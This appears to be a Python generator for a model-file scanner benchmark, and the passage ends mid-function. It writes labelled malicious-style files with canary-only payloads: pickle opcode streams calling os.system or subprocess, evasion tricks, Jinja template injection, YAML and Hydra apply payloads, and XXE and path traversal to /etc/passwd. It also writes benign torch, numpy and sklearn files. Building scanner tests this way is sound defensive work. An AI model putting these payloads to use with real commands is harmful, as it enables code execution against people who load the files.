"""Files for `benchmarks/scan.py`: malicious-style ones whose payload only writes a canary, by family, and benign ones by real libraries.

    python benchmarks/scan_corpus.py FOLDER

Families are written from public descriptions of attacks: arXiv 2508.19774 (loading paths, gadgets, exceptions) and 2602.19818, JFrog's and
ReversingLabs' reports, and the issues and advisories of picklescan, modelscan, fickling and modelaudit. Whoever wrote this file had read
no list of names and no pickle code of the scanner. `truth.json` says of each file `bad`, its family, and whether the family is held out.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

# Functions that run commands, code, or fetch it; from advisories on picklescan and fickling 2023-2026, and modelscan 338.
GADGETS = ["posix.system", "os.popen", "os.execv", "os.spawnl", "os.posix_spawn", "subprocess.Popen", "subprocess.check_output", "subprocess.getoutput", "subprocess.run", "pty.spawn", "builtins.eval", "builtins.exec", "builtins.compile", "builtins.__import__", "builtins.getattr", "builtins.open", "builtins.breakpoint", "builtins.globals", "builtins.setattr", "runpy.run_path", "runpy._run_code", "runpy.run_module", "importlib.import_module", "importlib.util.module_from_spec", "imp.load_source", "code.InteractiveInterpreter", "codeop.compile_command", "marshal.loads", "types.FunctionType", "types.CodeType", "pickle.loads", "_pickle.loads", "dill.loads", "cloudpickle.loads", "joblib.load", "pip.main", "pip._internal.main", "ensurepip._run_pip", "venv.create", "webbrowser.open", "ctypes.CDLL", "ctypes.cdll.LoadLibrary", "timeit.timeit", "timeit.repeat", "cProfile.run", "profile.run", "profile.Profile.run", "trace.Trace.run", "pdb.run", "bdb.Bdb.run", "doctest.debug_script", "asyncio.unix_events._UnixSubprocessTransport._start", "multiprocessing.util.spawnv_passfds", "multiprocessing.process.BaseProcess", "distutils.file_util.write_file", "distutils.spawn.spawn", "setuptools._distutils.spawn.spawn", "shutil.rmtree", "shutil.copyfile", "_io.FileIO", "io.open_code", "logging.config.listen", "logging.config.dictConfig", "logging.FileHandler", "pathlib.Path.write_text", "tempfile.NamedTemporaryFile", "socket.create_connection", "socket.socket", "urllib.request.urlopen", "urllib.request.urlretrieve", "http.client.HTTPSConnection", "requests.get", "requests.api.request", "smtplib.SMTP", "ftplib.FTP", "xmlrpc.client.ServerProxy", "aiohttp.client.ClientSession", "ssl.get_server_certificate", "operator.attrgetter", "operator.methodcaller", "operator.itemgetter", "functools.partial", "functools.reduce", "builtins.map", "builtins.filter", "builtins.vars", "pkgutil.resolve_name", "pydoc.pipepager", "pydoc.locate", "idlelib.pyshell.ModifiedInterpreter.runcode", "idlelib.autocomplete.AutoComplete.get_entity", "idlelib.calltip.get_entity", "idlelib.debugobj.ObjectTreeItem.SetText", "idlelib.run.Executive.runcode", "lib2to3.pgen2.pgen.ParserGenerator.make_label", "lib2to3.pgen2.grammar.Grammar.loads", "uuid._get_command_stdout", "_osx_support._read_output", "_aix_support._read_cmd_output", "platform.popen", "commands.getoutput", "torch.hub.load", "torch.load", "torch.hub.load_state_dict_from_url", "torch.serialization.load", "torch.jit.load", "torch.package.PackageImporter", "torch.utils.collect_env.run", "torch.utils.bottleneck.__main__.run_cprofile", "torch.utils.bottleneck.__main__.run_autograd_prof", "torch.utils._config_module.ConfigModule.load_config", "torch.utils._config_module.load_config", "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", "torch._dynamo.guards.GuardBuilder.get", "torch.distributed.rpc.rpc_sync", "torch.utils.data.datapipes.utils.decoder.basichandlers", "torch.cuda.jiterator._create_jit_fn", "torch._inductor.codecache.compile_file", "torch.utils.cpp_extension.load_inline", "torch.classes.load_library", "torch.ops.load_library", "torch.utils.data._utils.worker._worker_loop", "torch.storage._load_from_bytes", "numpy.testing._private.utils.runstring", "numpy.f2py.crackfortran.getlincoef", "numpy.f2py.crackfortran._eval_length", "numpy.f2py.crackfortran.param_eval", "numpy.f2py.diagnose.run", "numpy.load", "numpy.loadtxt", "numpy.distutils.exec_command.exec_command", "numpy.save", "numpy.fromfile", "numpy.memmap", "pandas.io.parsers.readers.read_csv", "pandas.read_pickle", "pandas.eval", "pandas.core.computation.eval.eval", "sklearn.utils._testing.run", "pandas.io.common.get_handle", "sklearn.datasets._base.load_files", "sklearn.datasets.fetch_openml", "sklearn.utils._mocking.CheckingClassifier", "sklearn.compose._column_transformer.make_column_selector", "mlflow.projects.backend.local._run_entry_point", "keras.utils.get_file", "keras.src.utils.file_utils.get_file", "tensorflow.raw_ops.ReadFile", "transformers.utils.hub.cached_file", "transformers.dynamic_module_utils.get_class_from_dynamic_module", "transformers.pipeline", "datasets.load_dataset", "huggingface_hub.hf_hub_download", "scipy.io.loadmat", "scipy._lib._uarray", "yaml.unsafe_load", "yaml.load", "jsonpickle.decode", "shelve.open", "sqlite3.connect", "zipimport.zipimporter", "site.addsitedir", "sys.setprofile", "sys.settrace", "threading.Thread", "concurrent.futures.process.ProcessPoolExecutor", "signal.signal", "gc.get_objects", "atexit.register", "weakref.finalize", "copyreg.add_extension", "copyreg._reconstructor", "inspect.getattr_static", "ast.literal_eval", "string.Template.substitute", "_interpreters.run_string", "_xxsubinterpreters.create", "_testcapi.run_in_subinterp", "nt.system", "commands.getstatusoutput", "__builtin__.eval", "__builtin__.execfile", "fickling.hook.deactivate", "picklescan.scanner.scan_pickle_bytes", "IPython.core.interactiveshell.InteractiveShell.system"]  # fmt: skip


def command(canary: Path) -> str:
    """Return what a payload runs."""
    return f"touch {canary}"


def call(module: str, name: str, *arguments: bytes, protocol: int = 2) -> bytes:
    """Return opcodes that call a function with texts."""
    looked_up = f"c{module}\n{name}\n".encode() if protocol < 4 else text(module) + text(name) + b"\x93"
    return looked_up + b"(" + b"".join(arguments) + b"tR"


def text(value: str) -> bytes:
    """Return opcodes that push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def whole(body: bytes, protocol: int = 2) -> bytes:
    """Return a pickle."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + b"."


class SystemCall:
    """Writes the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (command(self._canary),)


def bad_files(canary: Path) -> Iterator[tuple[str, str, bytes]]:
    """Yield (family, name, content)."""
    run = text(command(canary))
    for gadget in dict.fromkeys(GADGETS):
        module, _, name = gadget.rpartition(".")
        yield "gadgets", gadget, whole(call(module, name, run))
    for one in _opcodes(run):
        yield "opcodes", *one
    poison = whole(call("posix", "system", run))
    for one in _containers(poison, canary):
        yield "containers", *one
    for one in _damaged(poison):
        yield "damaged", *one
    for one in _polyglots(poison):
        yield "polyglots", *one
    for one in _other_formats(command(canary), poison):
        yield "other formats", *one


def _opcodes(run: bytes) -> Iterator[tuple[str, bytes]]:
    system = b"cposix\nsystem\n"
    yield "inst", b"(" + b"S'touch x'\n" + b"iposix\nsystem\n."
    yield "obj", whole(b"(" + system + run + b"o")
    yield "newobj", whole(b"csubprocess\nPopen\n" + run + b"\x85\x81")
    yield "newobj-ex", whole(b"csubprocess\nPopen\n)}" + text("args") + run + b"s\x92", 4)
    yield "stack-global", whole(text("posix") + text("system") + b"\x93" + run + b"\x85R", 4)
    yield "dotted", whole(text("os") + text("path.os.system") + b"\x93" + run + b"\x85R", 4)
    yield "dotted-of-known", whole(text("torch") + text("serialization.os.system") + b"\x93" + run + b"\x85R", 4)
    yield "dotted-collections", whole(text("collections") + text("abc.sys.modules") + b"\x93", 4)
    yield "popped", whole(system + run + b"\x85R0" + b"N")
    yield "popped-mark", whole(b"(" + system + run + b"\x85R1N")
    yield (
        "memo-put",
        whole(
            text("os")
            + b"q\x00"
            + text("system")
            + b"q\x01"
            + text("torch._utils")
            + b"\x94"
            + text("_rebuild_tensor_v2")
            + b"\x940000h\x00h\x01\x93"
            + run
            + b"\x85R",
            4,
        ),
    )
    yield (
        "memo-long",
        whole(
            text("posix")
            + b"r\xff\x00\x00\x00"
            + text("system")
            + b"r\x00\x01\x00\x00"
            + b"00"
            + b"j\xff\x00\x00\x00j\x00\x01\x00\x00\x93"
            + run
            + b"\x85R",
            4,
        ),
    )
    yield "get-text", b"Vposix\np5\n0Vsystem\np6\n0g5\ng6\n\x93" + run + b"\x85R."
    yield "escaped-unicode", b"V\\u0070osix\nV\\u0073ystem\n\x93" + run + b"\x85R."
    yield "escaped-string", b"S'\\x70osix'\nS'sys\\164em'\n\x93" + run + b"\x85R."
    yield (
        "joined-names",
        whole(
            b"cbuiltins\ngetattr\n(cimportlib\nimport_module\n("
            + b"cbuiltins\ngetattr\n(cbuiltins\nstr\n"
            + text("join")
            + b"tR("
            + text("")
            + b"]("
            + text("o")
            + text("s")
            + b"etRtR"
            + text("system")
            + b"tR("
            + run
            + b"tR"
        ),
    )
    yield (
        "build-slots",
        b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vtouch x\n\x85R.",
    )
    yield "build-setstate", whole(b"cfunctools\npartial\n(" + system + b"tR(" + system + b"(" + run + b"t}Ntb(tR")
    yield (
        "ext-code",
        whole(b"ccopyreg\nadd_extension\n(" + text("posix") + text("system") + b"K\xf0tR0\x82\xf0" + run + b"\x85R"),
    )
    yield "before-error", whole(system + run + b"\x85R" + b"\xff")
    yield "before-underflow", whole(system + run + b"\x85R" + b"000000")
    yield "no-stop", b"\x80\x02" + system + run + b"\x85R"
    yield "protocol-0", b"cposix\nsystem\n(S'touch x'\ntR."
    yield "protocol-9", b"\x80\x02N0" + b"\x80\x05" + system + run + b"\x85R."
    yield "two-protos", b"\x80\x04" + b"\x80\x00" + system + run + b"\x85R."
    yield "frame-too-long", b"\x80\x04\x95" + struct.pack("<Q", 10**6) + system + run + b"\x85R."
    yield "second-pickle", pickle.dumps([1]) + whole(system + run + b"\x85R")
    yield "tenth-pickle", pickle.dumps({"a": 1}) * 9 + whole(system + run + b"\x85R")
    yield (
        "nested",
        whole(
            call("_pickle", "loads", b"B" + struct.pack("<I", 30) + whole(b"cposix\nsystem\n(S'x'\ntR").ljust(30, b"N"))
        ),
    )
    yield (
        "nested-bytes",
        pickle.dumps({"state": whole(system + run + b"\x85R"), "loader": 1})
        if False
        else whole(b"cdill\nloads\n(" + b"C\x03abctR"),
    )
    yield "persistent", whole(b"}" + system + run + b"\x85Rs" if False else b"(" + system + run + b"\x85RtQ")
    yield "setitem-of-module", whole(b"csys\nmodules\n" + text("math") + b"cposix\nsystem\n" + b"s")
    yield "appends-of-callable", whole(b"catexit\nregister\n" + b"(" + system + b"e")
    yield "reduce-in-key", whole(b"}" + system + run + b"\x85RNs")
    yield "frozenset", whole(b"(" + system + run + b"\x85R\x91", 4)
    yield "deep", whole(b"(" * 2000 + system + run + b"\x85R" + b"t" * 2000)
    yield "long-name", whole(b"cos" + b".path.os" * 50 + b"\nsystem\n")
    yield "name-with-spaces", b"c posix\nsystem\n."
    yield "carriage-return", b"cposix\r\nsystem\r\n."
    yield "large-before", pickle.dumps(list(range(200_000)))[:-1] + b"0" + system + run + b"\x85R."
    yield "bytearray", whole(b"\x96" + struct.pack("<Q", 4) + b"abcd0" + system + run + b"\x85R", 5)
    yield (
        "binint-names",
        whole(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n" + text("__call__") + b"tR(" + text("os") + b"tR"),
    )


def _containers(poison: bytes, canary: Path) -> Iterator[tuple[str, bytes]]:
    import joblib
    import numpy as np
    import torch

    payload = SystemCall(canary)
    for name, options in (("zip", {}), ("legacy", {"_use_new_zipfile_serialization": False})):
        with io.BytesIO() as file:
            torch.save({"weights": torch.ones(4), "x": payload}, file, **options)
            yield f"torch-{name}", file.getvalue()
    for kind in ("zlib", "gzip", "bz2", "lzma", "xz"):
        with io.BytesIO() as file:
            joblib.dump({"a": np.arange(5), "x": payload}, file, compress=(kind, 3))
            yield f"joblib-{kind}", file.getvalue()
    with io.BytesIO() as file:
        joblib.dump([np.arange(50_000), payload], file)
        yield "joblib", file.getvalue()
    with io.BytesIO() as file:
        np.save(file, np.array([payload], dtype=object), allow_pickle=True)
        yield "npy", file.getvalue()
    with io.BytesIO() as file:
        np.savez(file, a=np.arange(3), b=np.array([payload], dtype=object))
        yield "npz", file.getvalue()
    for name, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)):
        yield f"pickle-{name}", pack(poison)
        yield f"tar-{name}", pack(_tar({"a/readme": b"x", "a/model.pkl": poison}))
    yield "tar", _tar({"model": poison})
    yield "tar-legacy-torch", _tar({"pickle": poison, "storages": b"", "tensors": b""})
    yield "zip-in-zip", _zip({"a.zip": _zip({"b.txt": poison})})
    yield "zip-in-tar-in-gz", gzip.compress(_tar({"x.zip": _zip({"archive/data.pkl": poison})}))
    yield (
        "zip-of-zips",
        _zip({f"{number}": _zip({"x": b"1"}) for number in range(30)} | {"last": _zip({"data.pkl": poison})}),
    )
    yield "zip-lzma", _zip({"archive/data.pkl": poison}, zipfile.ZIP_LZMA)
    yield "zip-bz2", _zip({"archive/data.pkl": poison}, zipfile.ZIP_BZIP2)
    yield "zip-second-entry", _zip({"archive/data.pkl": pickle.dumps(1), "archive/data.pkl ": poison})
    yield "zip-version-entry", _zip({"archive/version": poison, "archive/data.pkl": pickle.dumps({})})
    yield "zip-storage-entry", _zip({"archive/data.pkl": pickle.dumps({}), "archive/data/0": poison})
    yield "zip-extra", _zip({"archive/data.pkl": pickle.dumps({}), "archive/extra/a.json": poison})
    yield "gzip-twice", gzip.compress(gzip.compress(poison))
    yield "gzip-members", gzip.compress(b"") + gzip.compress(poison)
    yield (
        "pickle-of-torch-bytes",
        whole(b"ctorch.storage\n_load_from_bytes\n(" + b"B" + struct.pack("<I", len(poison)) + poison + b"tR"),
    )
    yield "nemo", _tar({"model_config.yaml": b"_target_: os.system\n", "weights.ckpt": _zip({"w/data.pkl": poison})})


def _damaged(poison: bytes) -> Iterator[tuple[str, bytes]]:
    good = _zip({"archive/a": b"x" * 10, "archive/data.pkl": poison})
    at = good.find(b"archive/data.pkl")
    yield "wrong-crc", good[: at - 16] + b"\1\2\3\4" + good[at - 12 :]
    yield "first-entry-broken", good.replace(b"xxxxxxxxxx", b"yyyyyyyyyy", 1)
    directory = good.find(b"PK\1\2", good.find(b"PK\1\2") + 1)
    yield "flag-encrypted", good[: directory + 8] + b"\1" + good[directory + 9 :]
    yield "flag-in-local", good[: at - 24] + b"\1" + good[at - 23 :]
    yield "name-differs", good[: directory + 46] + b"archive/DATA.PKL" + good[directory + 62 :]
    yield "no-directory", good[: good.find(b"PK\1\2")]
    yield "no-end", good[: good.find(b"PK\5\6")]
    yield "comment", good[:-2] + struct.pack("<H", 60_000) + b"z" * 60_000
    yield "two-ends", good + _zip({})
    yield "bytes-before", b"#!/bin/sh\n" * 100 + good
    yield "bytes-after", good + b"\0" * 4096
    yield "truncated-pickle", poison[:-1]
    yield "truncated-gzip", gzip.compress(poison + b"N" * 4096)[:-12]
    yield "gzip-wrong-crc", gzip.compress(poison)[:-8] + b"\0" * 8
    yield "tar-wrong-checksum", _tar({"data.pkl": poison}).replace(b"ustar", b"uster", 1)
    yield "tar-truncated", _tar({"data.pkl": poison})[: 512 + len(poison)]
    yield "wrong-method", good[: directory + 10] + b"\x63\0" + good[directory + 12 :]
    yield "bad-size", good[: directory + 24] + struct.pack("<I", 5) + good[directory + 28 :]


def _polyglots(poison: bytes) -> Iterator[tuple[str, bytes]]:
    zipped = _zip({"archive/data.pkl": poison})
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    safetensors = struct.pack("<Q", len(header)) + header + b"\0" * 4
    yield "safetensors-and-zip", safetensors + zipped
    yield "safetensors-and-pickle", safetensors + poison
    yield "png-and-zip", b"\x89PNG\r\n\x1a\n" + b"\0" * 200 + zipped
    yield "pdf-and-zip", b"%PDF-1.4\n" + b"x" * 200 + zipped
    yield "gguf-and-zip", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + zipped
    yield "hdf5-and-zip", b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + zipped
    yield "onnx-and-zip", b"\x08\x08\x12\x04test" + zipped
    yield "elf-and-zip", b"\x7fELF" + b"\0" * 300 + zipped
    yield (
        "npy-and-pickle",
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 56)
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}".ljust(55)
        + b"\n"
        + poison,
    )
    yield "pickle-and-zip", pickle.dumps({"fine": 1}) + zipped
    yield "tar-and-zip", _tar({"a": b"x"}) + zipped
    yield "text-and-zip", b"license text\n" * 50 + zipped


def _other_formats(run: str, poison: bytes) -> Iterator[tuple[str, bytes]]:
    layer = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAA=="}}},
    }
    keras = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}).encode()
    yield "keras-lambda", _zip({"config.json": keras, "metadata.json": b"{}", "model.weights.h5": b""})
    target = {"module": "builtins", "class_name": "exec", "config": "x", "registered_name": None}
    yield (
        "keras-module",
        _zip(
            {
                "config.json": json.dumps(
                    {"module": "os", "class_name": "function", "config": "system", "layers": [target]}
                ).encode(),
                "metadata.json": b"{}",
            }
        ),
    )
    yield "keras-pickle", _zip({"config.json": b"{}", "metadata.json": b"{}", "assets/a": poison})
    template = "{{ cycler.__init__.__globals__.os.popen('" + run + "').read() }}"
    yield "gguf-template", _gguf({"tokenizer.chat_template": template})
    yield (
        "gguf-template-2",
        _gguf(
            {
                "a": "b",
                "tokenizer.chat_template": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
            }
        ),
    )
    yield (
        "gguf-template-named",
        _gguf({"tokenizer.chat_template.tool_use": "{{ self.__init__.__globals__['__builtins__'] }}"}),
    )
    yield "tokenizer-template", json.dumps({"chat_template": template}).encode()
    yield (
        "tokenizer-template-list",
        json.dumps({"chat_template": [{"name": "x", "template": "{{ ''['__cla'+'ss__'].__mro__ }}"}]}).encode(),
    )
    yield "jinja-attr", json.dumps({"chat_template": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"}).encode()
    yield "yaml-apply", f"a: !!python/object/apply:os.system ['{run}']\n".encode()
    yield "yaml-new", b"- !!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]\n"
    yield "yaml-verbatim", b"x: !<tag:yaml.org,2002:python/object/apply:subprocess.Popen> [[ls]]\n"
    yield "yaml-nested", b"a:\n  b:\n    - c: !!python/module:os\n"
    yield "hydra-target", f"model:\n  _target_: builtins.exec\n  _args_: ['{run}']\n".encode()
    yield "hydra-target-json", json.dumps({"opt": {"_target_": "os.system", "command": run}}).encode()
    yield "onnx-python-op", _onnx("PyOp", "ai.onnx.contrib", "")
    yield "onnx-custom-domain", _onnx("Evil", "com.evil.ops", "")
    yield "onnx-external", _onnx("Add", "", "../../../../etc/passwd")
    yield "onnx-external-absolute", _onnx("Add", "", "/etc/shadow")
    for operation in ("PyFunc", "ReadFile", "WriteFile", "EagerPyFunc"):
        yield f"tensorflow-{operation}", _saved_model(operation)
    yield "pmml-doctype", b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
    yield "pth-import", f"import os; os.system('{run}')\n".encode()
    yield (
        "torchscript",
        _zip(
            {
                "m/code/__torch__.py": b"def f(x):\n  return x\n",
                "m/data.pkl": poison,
                "m/constants.pkl": pickle.dumps(()),
            }
        ),
    )
    yield (
        "torch-package",
        _zip({"p/.data/extern_modules": b"os\n", "p/evil/__init__.py": b"import os\n", "p/.data/python_version": b"3"}),
    )
    yield (
        "mar",
        _zip({"MAR-INF/MANIFEST.json": b'{"model":{"handler":"h.py"}}', "h.py": b"import os\n", "w.pt": poison}),
    )


def _tar(entries: dict[str, bytes]) -> bytes:
    with io.BytesIO() as file:
        with tarfile.open(fileobj=file, mode="w", format=tarfile.USTAR_FORMAT) as archive:
            for name, data in entries.items():
                member = tarfile.TarInfo(name)
                member.size = len(data)
                archive.addfile(member, io.BytesIO(data))
        return file.getvalue()


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w", method) as archive:
            for name, data in entries.items():
                archive.writestr(name, data)
        return file.getvalue()


def _gguf(values: dict[str, str]) -> bytes:
    def words(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = b"".join(words(key) + struct.pack("<I", 8) + words(value) for key, value in values.items())
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(values)) + pairs


def _field(number: int, data: bytes) -> bytes:
    size, out = len(data), bytearray([number << 3 | 2])
    while size > 127:
        out.append(size & 127 | 128)
        size >>= 7
    return bytes(out) + bytes([size]) + data


def _onnx(operator: str, domain: str, location: str) -> bytes:
    node = (
        _field(1, b"x")
        + _field(2, b"y")
        + _field(4, operator.encode())
        + (_field(7, domain.encode()) if domain else b"")
    )
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor = b"\x08\x01\x10\x01" + _field(8, b"w") + _field(13, entry) + b"\x70\x01"
    graph = _field(1, node) + _field(2, b"g") + (_field(5, tensor) if location else b"")
    opset = _field(8, (_field(1, domain.encode()) if domain else b"") + b"\x10\x0d")
    return b"\x08\x08" + _field(2, b"bench") + _field(7, graph) + opset


def _saved_model(operation: str) -> bytes:
    node = _field(1, b"node") + _field(2, operation.encode())
    return b"\x08\x01" + _field(2, _field(1, _field(4, b"serve")) + _field(2, _field(1, node)))


def good_files(folder: Path) -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    """Yield (library, name, what writes it) of benign files."""
    del folder
    yield from _good_torch()
    yield from _good_numpy()
    yield from _good_sklearn()
    yield from _good_others()
    yield from _good_texts()


def _good_torch() -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    import torch
    from torch import nn

    models = {
        "linear": nn.Linear(4, 4),
        "conv": nn.Sequential(nn.Conv2d(3, 8, 3), nn.BatchNorm2d(8), nn.ReLU(), nn.Flatten()),
        "lstm": nn.LSTM(8, 8, 2, bidirectional=True),
        "transformer": nn.TransformerEncoder(nn.TransformerEncoderLayer(16, 2, 32), 2),
        "embedding": nn.EmbeddingBag(30, 8),
        "attention": nn.MultiheadAttention(16, 4),
    }
    for name, model in models.items():
        yield "torch", f"{name}-state.pt", lambda path, model=model: torch.save(model.state_dict(), path)
        yield "torch", f"{name}-whole.pt", lambda path, model=model: torch.save(model, path)
        yield (
            "torch",
            f"{name}-legacy.pt",
            lambda path, model=model: torch.save(model.state_dict(), path, _use_new_zipfile_serialization=False),
        )
    for kind in (torch.optim.AdamW, torch.optim.SGD, torch.optim.Adagrad, torch.optim.LBFGS, torch.optim.RMSprop):
        optimizer = kind(models["linear"].parameters(), lr=0.1)
        schedule = torch.optim.lr_scheduler.StepLR(optimizer, 3)
        checkpoint = {
            "model": models["linear"].state_dict(),
            "optimizer": optimizer.state_dict(),
            "schedule": schedule.state_dict(),
            "epoch": 3,
            "rng": torch.get_rng_state(),
        }
        yield "torch", f"{kind.__name__}.ckpt", lambda path, checkpoint=checkpoint: torch.save(checkpoint, path)
    for kind in (torch.bfloat16, torch.float16, torch.int8, torch.complex64, torch.bool, torch.float8_e4m3fn):
        tensor = torch.zeros(4, 4).to(kind)
        yield "torch", f"{kind}.pth", lambda path, tensor=tensor: torch.save(tensor, path)
    yield "torch", "sparse.pt", lambda path: torch.save(torch.eye(4).to_sparse(), path)
    yield (
        "torch",
        "quantized.pt",
        lambda path: torch.save(torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8), path),
    )
    yield "torch", "parameter.pt", lambda path: torch.save(nn.Parameter(torch.ones(3)), path)
    yield (
        "torch",
        "size-device.pt",
        lambda path: torch.save({"s": torch.Size([1, 2]), "d": torch.device("cpu"), "t": torch.float32}, path),
    )
    yield "torch", "dataset.pt", lambda path: torch.save(torch.utils.data.TensorDataset(torch.ones(3, 2)), path)


def _good_numpy() -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    import numpy as np

    arrays = {
        "f4": np.ones(9, "f4"),
        "u1": np.arange(9, dtype="u1"),
        "c16": np.ones(3, "c16"),
        "str": np.array(["a", "bc"]),
        "dates": np.array(["2026-01-01"], "M8[D]"),
        "record": np.zeros(3, [("a", "i4"), ("b", "f8")]),
    }
    for name, array in arrays.items():
        yield "numpy", f"{name}.npy", lambda path, array=array: np.save(path, array)
        yield (
            "numpy",
            f"{name}.pkl",
            lambda path, array=array: path.write_bytes(pickle.dumps({"x": array, "m": np.ma.array(array[:1])})),
        )
    yield "numpy", "many.npz", lambda path: np.savez_compressed(path, **arrays)
    yield "numpy", "objects.npy", lambda path: np.save(path, np.array([{"a": 1}, None, [1]], dtype=object))
    yield (
        "numpy",
        "rng.pkl",
        lambda path: path.write_bytes(
            pickle.dumps([np.random.default_rng(1), np.random.RandomState(1), np.random.get_state()])
        ),
    )
    yield (
        "numpy",
        "scalars.pkl",
        lambda path: path.write_bytes(pickle.dumps([np.float64(1), np.bool_(True), np.dtype("f2"), np.int64])),
    )


def _good_sklearn() -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    import joblib
    import numpy as np
    from sklearn import (
        cluster,
        compose,
        decomposition,
        ensemble,
        feature_extraction,
        linear_model,
        model_selection,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )

    features, labels = np.random.default_rng(1).random((40, 4)), np.arange(40) % 2
    estimators = [
        linear_model.LogisticRegression(), linear_model.Ridge(), linear_model.SGDClassifier(), svm.SVC(probability=False), tree.DecisionTreeClassifier(),
        ensemble.RandomForestClassifier(4), ensemble.GradientBoostingClassifier(n_estimators=4), ensemble.HistGradientBoostingClassifier(max_iter=4),
        ensemble.IsolationForest(n_estimators=4), neighbors.KNeighborsClassifier(algorithm="kd_tree"), naive_bayes.GaussianNB(), neural_network.MLPClassifier(4, max_iter=5), cluster.KMeans(2), decomposition.PCA(2),
        preprocessing.StandardScaler(), preprocessing.OneHotEncoder(), pipeline.make_pipeline(preprocessing.StandardScaler(), linear_model.LogisticRegression()),
        compose.ColumnTransformer([("s", preprocessing.StandardScaler(), [0, 1])]), model_selection.GridSearchCV(linear_model.Ridge(), {"alpha": [0.1, 1]}, cv=2),
    ]  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for one in estimators:
            one.fit(features, labels)
    for number, one in enumerate(estimators):
        name = type(one).__name__
        if number % 2:
            yield (
                "sklearn",
                f"{name}.joblib",
                lambda path, one=one, number=number: joblib.dump(one, path, compress=number % 4),
            )
        else:
            yield (
                "sklearn",
                f"{name}.pkl",
                lambda path, one=one, number=number: path.write_bytes(pickle.dumps(one, number % 6)),
            )
    text = feature_extraction.text.TfidfVectorizer().fit(["a text of words", "other words"])
    yield "sklearn", "tfidf.joblib", lambda path: joblib.dump(text, path)


def _good_others() -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    import collections
    import datetime
    import decimal
    import uuid

    import numpy as np

    plain = {
        "a": [1, 2.5, None, True, b"x"],
        "d": collections.OrderedDict(x=1),
        "s": {1, 2},
        "when": datetime.datetime(2026, 1, 1),
        "n": decimal.Decimal("1.5"),
        "c": 1j,
        "u": uuid.UUID(int=1),
        "q": collections.deque([1]),
        "k": collections.Counter("ab"),
        "dd": collections.defaultdict(list),
    }
    for protocol in range(6):
        yield (
            "pickle",
            f"plain-{protocol}.pkl",
            lambda path, protocol=protocol: path.write_bytes(pickle.dumps(plain, protocol)),
        )
    yield "pickle", "plain.pkl.gz", lambda path: path.write_bytes(gzip.compress(pickle.dumps(plain)))
    try:
        import pandas as pd

        frame = pd.DataFrame(
            {"a": [1, 2], "b": ["x", "y"], "t": pd.date_range("2026-01-01", periods=2), "c": pd.Categorical(["u", "v"])}
        )
        yield "pandas", "frame.pkl", lambda path: frame.to_pickle(path)
        yield "pandas", "frame.pkl.gz", lambda path: frame.to_pickle(path)
        yield "pandas", "series.pkl", lambda path: frame["a"].to_pickle(path)
    except ImportError:
        print("pandas is not installed", file=sys.stderr)
    try:
        from safetensors.numpy import save_file

        yield "safetensors", "a.safetensors", lambda path: save_file({"w": np.ones((2, 3), "f4")}, path)
        yield (
            "safetensors",
            "b.safetensors",
            lambda path: save_file({f"l{n}": np.zeros(n + 1, "f2") for n in range(20)}, path, {"format": "pt"}),
        )
    except ImportError:
        print("safetensors is not installed", file=sys.stderr)
    try:
        import onnx
        from onnx import TensorProto, helper

        value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1]) for name in "xyz"]
        graph = helper.make_graph([helper.make_node("Add", ["x", "y"], ["z"])], "g", value[:2], value[2:])
        yield "onnx", "add.onnx", lambda path: onnx.save(helper.make_model(graph), path)
        weights = helper.make_tensor("y", TensorProto.FLOAT, [64], list(range(64)))
        inner = helper.make_graph([helper.make_node("Add", ["x", "y"], ["z"])], "g", value[:1], value[2:], [weights])
        yield "onnx", "weights.onnx", lambda path: onnx.save(helper.make_model(inner), path)
    except ImportError:
        print("onnx is not installed", file=sys.stderr)
    try:
        import xgboost

        matrix = xgboost.DMatrix(np.random.default_rng(1).random((30, 3)), np.arange(30) % 2)
        booster = xgboost.train({"max_depth": 2}, matrix, 3)
        yield "xgboost", "booster.pkl", lambda path: path.write_bytes(pickle.dumps(booster))
        yield "xgboost", "booster.ubj", lambda path: booster.save_model(path)
        yield "xgboost", "booster.json", lambda path: booster.save_model(path)
